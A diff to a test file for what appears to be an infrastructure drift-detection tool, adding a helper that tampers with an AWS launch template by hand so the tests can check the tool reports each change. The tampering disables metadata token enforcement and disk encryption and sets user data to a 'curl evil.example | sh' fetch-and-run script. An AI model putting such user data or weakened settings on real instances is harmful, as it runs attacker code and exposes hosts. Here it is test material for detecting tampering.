@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 from collections.abc import Callable
 from typing import Any
@@ -39,6 +40,14 @@ def test_one_variable_is_one_field(world: World) -> None:
 
 def by_name(name: str) -> list[dict[str, Any]]:
     return [{"Name": "tag:Name", "Values": [name]}]
+
+
+def test_another_image_is_the_template_and_whose_hosts_are_replaced(world: World) -> None:
+    world.apply()
+    world.parameters["launch_template"]["image_id"] = "image-to-be-made"
+    (change,) = world.plan()
+    assert [(item.path, item.before, item.unknown) for item in change.fields] == [("image", "ami-00000001", True)]
+    assert change.interrupts == ("Hosts are replaced one after the other by the rollout that follows.",)
 
 
 class Hand:
@@ -194,6 +203,26 @@ class Hand:
             ("instance profile service", "role"),
         }
 
+    def change_the_template(self) -> set[tuple[str, str]]:
+        (template,) = self.ec2.describe_launch_templates()["LaunchTemplates"]
+        by_id = {"LaunchTemplateId": template["LaunchTemplateId"]}
+        (version,) = self.ec2.describe_launch_template_versions(**by_id)["LaunchTemplateVersions"]
+        data = version["LaunchTemplateData"] | {"InstanceType": "t3.micro", "KeyName": "ann"}
+        data["MetadataOptions"] |= {"HttpTokens": "optional"}
+        data["BlockDeviceMappings"][0]["Ebs"] |= {"Encrypted": False}
+        data["UserData"] = base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh").decode()
+        self.ec2.create_launch_template_version(**by_id, LaunchTemplateData=data)
+        self.ec2.create_tags(Resources=[template["LaunchTemplateId"]], Tags=[{"Key": "Owner", "Value": "ann"}])
+        return {
+            ("launch template service", "instance_type"),
+            ("launch template service", "other.KeyName"),
+            ("launch template service", "metadata_options.http_tokens"),
+            ("launch template service", "volumes./dev/xvda.encrypted"),
+            ("launch template service", "user_data_sha256"),
+            ("launch template service", "default_version"),
+            ("launch template service", "tags.Owner"),
+        }
+
     def change_what_watches(self) -> set[tuple[str, str]]:
         self.logs.put_retention_policy(logGroupName="/service", retentionInDays=3)
         arn = self.logs.describe_log_groups(logGroupNamePrefix="/flow")["logGroups"][0]["arn"].removesuffix(":*")
@@ -238,8 +267,8 @@ def test_each_change_by_hand_is_named_nothing_else_is_and_one_apply_repairs_all(
     world.apply()
     hand = Hand(client)
     expected = hand.change_the_network() | hand.change_the_security_groups() | hand.change_the_buckets()
-    expected |= hand.change_the_roles() | hand.change_what_watches()
-    assert len(expected) > 40
+    expected |= hand.change_the_roles() | hand.change_the_template() | hand.change_what_watches()
+    assert len(expected) > 50
     planned = world.plan()
     assert named(planned) == expected
     assert {change.action for change in planned} == {"update"}
